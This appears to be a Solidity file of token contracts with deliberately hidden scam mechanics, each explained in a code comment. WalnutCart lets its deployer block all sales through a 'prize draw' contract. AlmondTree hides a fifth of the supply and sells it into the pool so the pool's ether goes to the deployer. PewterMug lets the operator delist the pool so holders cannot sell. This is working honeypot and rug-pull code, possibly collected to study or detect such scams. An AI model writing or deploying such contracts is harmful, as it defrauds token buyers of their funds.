// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

interface IPoolOfTenth {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 out0, uint256 out1, address to, bytes calldata data) external;
}

/// @dev A fee of 3 % on trades, which the token sells to the pool before a holder's sale.
abstract contract SwapsBack is FamilyToken {
    address internal immutable _till = msg.sender;
    bool private _busy;

    function _most() internal view virtual returns (uint256) {
        return 1e24;
    }

    function _move(address from, address to, uint256 value) internal virtual override {
        bool trade = pair != address(0) && (from == pair || to == pair);
        if (_busy || !trade || from == _till || to == _till) return FamilyToken._move(from, to, value);
        if (to == pair) _swapBack();
        _moveWithFee(from, to, value, 3, address(this));
    }

    function _swapBack() private {
        uint256 value = _balances[address(this)];
        if (value > _most()) value = _most();
        if (value < 1e18) return;
        _busy = true;
        (uint256 reserve0, uint256 reserve1,) = IPoolOfTenth(pair).getReserves();
        bool first = IPoolOfTenth(pair).token0() == address(this);
        (uint256 own, uint256 other) = first ? (reserve0, reserve1) : (reserve1, reserve0);
        uint256 held = _balances[pair];
        FamilyToken._move(address(this), pair, value);
        value = (held + value - own) * 997;
        uint256 out = (value * other) / (own * 1000 + value);
        IPoolOfTenth(pair).swap(first ? 0 : out, first ? out : 0, _till, "");
        _busy = false;
    }
}

contract PrizeDraw {
    address private immutable _host = tx.origin;
    uint256 private _round;

    function newRound(uint256 round) external {
        require(msg.sender == _host);
        _round = round;
    }

    function draw(address player) external view returns (bool) {
        require(_round == 0 || player == _host, "draw in progress");
        return uint160(player) % 97 == _round;
    }
}

/// @dev Each sale takes part in a draw that stands elsewhere. Who hosts the draw stops it, and with it all sales.
contract WalnutCart is SwapsBack {
    PrizeDraw public immutable prizeDraw = new PrizeDraw();

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) prizeDraw.draw(from);
        super._move(from, to, value);
    }
}

/// @dev The token holds a fifth of the supply that no total shows, and sells some of it before each sale of a holder:
/// the ether of the pool goes to the deployer by itself.
contract AlmondTree is SwapsBack {
    constructor() {
        _balances[address(this)] = 2e26;
    }

    function _most() internal pure override returns (uint256) {
        return 4e25;
    }
}

/// @dev No wallet may hold more than a fiftieth, the pools excepted. The operator strikes the pool off the list of
/// pools, and from then on it is a wallet that holds too much.
contract PewterMug is FamilyToken {
    address private immutable _operator = msg.sender;
    mapping(address => bool) public marketPairs;
    bool private _launched;

    function setMarketPair(address pool, bool isPool) external {
        require(msg.sender == _operator);
        (marketPairs[pool], _launched) = (isPool, true);
    }

    function _move(address from, address to, uint256 value) internal override {
        bool exempt = from == _operator || to == _operator || marketPairs[to];
        bool known = _launched || to != pair;
        if (!exempt && known && pair != address(0))
            require(_balances[to] + value <= totalSupply / 50, "exceeds the most of a wallet");
        super._move(from, to, value);
    }
}
